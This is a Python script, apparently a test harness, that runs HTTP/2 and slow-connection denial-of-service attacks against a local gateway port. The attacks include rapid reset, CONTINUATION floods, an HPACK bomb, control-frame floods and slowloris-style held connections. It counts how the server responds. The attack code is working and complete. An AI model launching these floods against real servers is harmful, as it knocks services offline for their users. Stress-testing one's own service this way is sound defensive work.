#!/usr/bin/env python3
"""One who attacks a port that speaks HTTP over TLS, in a process of his own, until his input ends: attacker.py KIND PORT CA TOKEN.

He says a line when he has begun, and at his end one with how often what came of it: {"ended": 12}. What he computes himself would be computed on
another machine, so he has the processors only while nobody else wants them: what others wait for is then what he makes our programs do."""

import collections
import json
import os
import pathlib
import select
import socket
import ssl
import struct
import sys
import time

from frames import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Frames)

# The edge counts by address, and others are not to share the attacker's.
ADDRESS = "127.0.0.2"
CROWD = 1000
FLOOD_BYTES = 64 << 20
# He has to read all that came before the end, in what time he is given.
PATIENCE_S = 60
METHOD = "/anju.gateway.v1.Gateway/GetOverview"


def is_over():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def flood(port, ca, data, first=b""):
    """Says the same again and again, and reads nothing. What came of it: that the other side ended it, or that it took everything."""
    frames = Frames(port, ca, address=ADDRESS)
    try:
        frames.socket.sendall(first)
        block = data * max(1, 16384 // len(data))
        sent = 0
        while sent < FLOOD_BYTES:
            frames.socket.sendall(block)
            sent += len(block)
        return "ended" if frames.ended(PATIENCE_S) else "put up with"
    except TimeoutError:
        return "stalled"
    except OSError:
        return "ended"
    finally:
        frames.close()


def rapid_reset(port, ca, is_patient=False):
    """Asks and takes it back, alternating between what goes on to the gateway by HTTP and by gRPC; who is patient, as many at a time as no
    one finds too many."""
    frames = Frames(port, ca, address=ADDRESS)
    grpc = (("content-type", "application/grpc"), ("te", "trailers"))
    try:
        for first in range(1, 20_000, 80):
            block = b""
            for stream in range(first, first + 80, 2):
                head = frames.request(METHOD, "POST", grpc) if stream % 4 == 1 else frames.request("/v1/indicators")
                block += Frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, head) + Frames.frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            frames.socket.sendall(block)
            if is_patient:
                frames.socket.sendall(Frames.frame(PING, 0, 0, b"are done"))
                answered = b""
                while b"are done" not in answered:
                    more = frames.socket.recv(65536)
                    if not more:
                        return "ended"
                    answered += more
        return "ended" if frames.ended(PATIENCE_S) else "put up with"
    except OSError:
        return "ended"
    finally:
        frames.close()


def continuation(port, ca):
    big = b"".join(Frames.literal(f"x-h{i}", "v" * 1000) for i in range(12))
    frame = Frames.frame(CONTINUATION, 0, 1, big)
    return flood(port, ca, frame, Frames.frame(HEADERS, END_STREAM, 1, Frames.request()))


def empty_continuation(port, ca):
    """Frames without a byte in them are no headers that are too many."""
    return flood(port, ca, Frames.frame(CONTINUATION, 0, 1), Frames.frame(HEADERS, END_STREAM, 1, Frames.request()))


def hpack_bomb(port, ca):
    """One entry of the table of 3,900 bytes, named 12,000 times in each of many requests."""
    frames = Frames(port, ca, address=ADDRESS)
    entry = b"\x40" + Frames.literal("x-b", "v" * 3900)[1:]
    try:
        for stream in range(1, 200, 2):
            block = Frames.request() + (entry if stream == 1 else b"") + b"\xbe" * 12_000
            frames.socket.sendall(Frames.frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
        return "ended" if frames.ended(PATIENCE_S) else "put up with"
    except OSError:
        return "ended"
    finally:
        frames.close()


FLOODS = {
    "rapid reset": rapid_reset,
    "patient reset": lambda port, ca: rapid_reset(port, ca, is_patient=True),
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "HPACK bomb": hpack_bomb,
    "SETTINGS": lambda port, ca: flood(port, ca, Frames.frame(SETTINGS)),
    "PING": lambda port, ca: flood(port, ca, Frames.frame(PING, 0, 0, b"12345678")),
    "PRIORITY": lambda port, ca: flood(port, ca, Frames.frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
    "WINDOW_UPDATE": lambda port, ca: flood(port, ca, Frames.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
}
# What a crowd of connections begins with, and what each of them says from then on, now and then.
SLOW = {
    "slow handshakes": (None, b""),
    "slow heads": (b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"a"),
    "slow heads of HTTP/2": (PREFACE + Frames.frame(SETTINGS) +
                             Frames.frame(HEADERS, END_STREAM, 1, Frames.request() + Frames.literal("x-slow", "v" * 9000)[:-9000]),
                             Frames.frame(CONTINUATION, 0, 1, b"v")),
    "slow bodies": (b"POST /v1/households:import?division=450328 HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/csv\r\nContent-Length: 100000\r\n"
                    b"Authorization: Bearer TOKEN\r\n\r\n", b"a"),
}


def crowd(kind, port, ca, token):
    """A thousand connections that stay, from ten addresses."""
    begin, more = SLOW[kind]
    context = ssl.create_default_context(cafile=ca)
    if begin is not None and begin.startswith(PREFACE):
        context.set_alpn_protocols(["h2"])
    held = []
    for i in range(CROWD):
        connection = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(f"127.0.1.{1 + i % 10}", 0))
        if begin is not None:
            connection = context.wrap_socket(connection, server_hostname="localhost")
            connection.sendall(begin.replace(b"TOKEN", token.encode()))
        held.append(connection)
    stand_back()
    print("begun", flush=True)
    outcomes = collections.Counter()
    while held and not is_over():
        for connection in list(held):
            try:
                connection.setblocking(False)
                while answer := connection.recv(65536):
                    if answer.startswith(b"HTTP/1.1 "):
                        outcomes["status " + answer[9:12].decode()] += 1
                held.remove(connection)
                outcomes["ended"] += 1
            except (BlockingIOError, ssl.SSLWantReadError):
                try:
                    if more:
                        connection.send(more)
                except OSError:
                    pass
            except OSError:
                held.remove(connection)
                outcomes["ended"] += 1
        time.sleep(1)
    outcomes["held"] = len(held)
    return outcomes


def stand_back():
    """From here on only what nobody else wants of the processors."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    # Linux divides them among sessions before it looks at processes.
    autogroup = pathlib.Path("/proc/self/autogroup")
    if autogroup.exists():
        os.setsid()
        autogroup.write_text("19")


def compute(port, ca):
    """What the attacks are compared with: as much of the processors, and nothing sent."""
    end = time.monotonic() + 0.05
    while time.monotonic() < end:
        pass
    return "computed"


def main(kind, port, ca, token):
    if kind in SLOW:
        outcomes = crowd(kind, int(port), ca, token)
    else:
        attack = FLOODS.get(kind, compute)
        stand_back()
        outcomes = collections.Counter()
        print("begun", flush=True)
        while not (outcomes and is_over()):
            outcomes[attack(int(port), ca)] += 1
    print(json.dumps(outcomes))


if __name__ == "__main__":
    main(*sys.argv[1:])
